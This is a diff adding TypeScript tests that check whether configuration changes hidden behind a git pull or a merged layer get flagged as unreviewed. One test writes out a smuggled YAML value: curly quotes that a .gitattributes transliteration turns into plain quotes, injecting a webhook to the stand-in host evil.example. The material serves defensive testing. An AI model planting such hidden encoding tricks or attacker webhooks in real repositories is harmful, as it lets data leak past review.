@@ -1,4 +1,5 @@
 import {bareSpecFor, specFor} from '../world/cli';
+import {commitAside, pullInto} from '../world/hosted-repository';
 import {type MergeWorld, startMergeWorld} from '../world/merge-world';
 
 /** What a pull request changes unseen while something nearer covers it, or while the operations hold it, and what a later push uncovers. */
@@ -100,6 +101,25 @@ describe.each(['a push', "a fork's merge"])('S129: %s takes a cover away', by =>
     expect(await apply(sha)).toMatchObject(UNREVIEWED);
     expect(live()).toEqual(was);
   });
+});
+
+test.each(CASES.filter(({name}) => !name.startsWith('variables')))('S129: behind a git pull, $name', async ({before, hidden, uncover}) => {
+  await start({'monitors.config.yaml': CONFIG, ...before});
+  const was = live();
+  const own = commitAside(world.repository, uncover);
+  await mergeHiding(hidden);
+  expect(await apply(pullInto(world.repository, own))).toMatchObject(UNREVIEWED);
+  expect(live()).toEqual(was);
+});
+
+test('S134: a hidden layer that git lays out otherwise than it is committed', async () => {
+  const attributes = {'monitors/.gitattributes': '_defaults.yaml working-tree-encoding=ASCII//TRANSLIT\n'};
+  await start({'monitors.config.yaml': CONFIG, 'monitors/first.yaml': specFor('first'), ...attributes});
+  // Made plain, the quotes end the goal.
+  const text = '{goal: "a\u201d,\n webhook: {url: \u201dhttps://evil.example/in\u201d},\n # "\n}\n';
+  expect(await apply(await mergeHiding({'monitors/new/_defaults.yaml': text}))).toMatchObject({exitCode: 0});
+  const spec = `${bareSpecFor('site')}goal: Mine\n`;
+  expect(await apply(world.repository.commit('main', {'monitors/new/site.yaml': spec}))).toMatchObject(UNREVIEWED);
 });
 
 test('a push may take its own cover away, and one whose values a review showed', async () => {
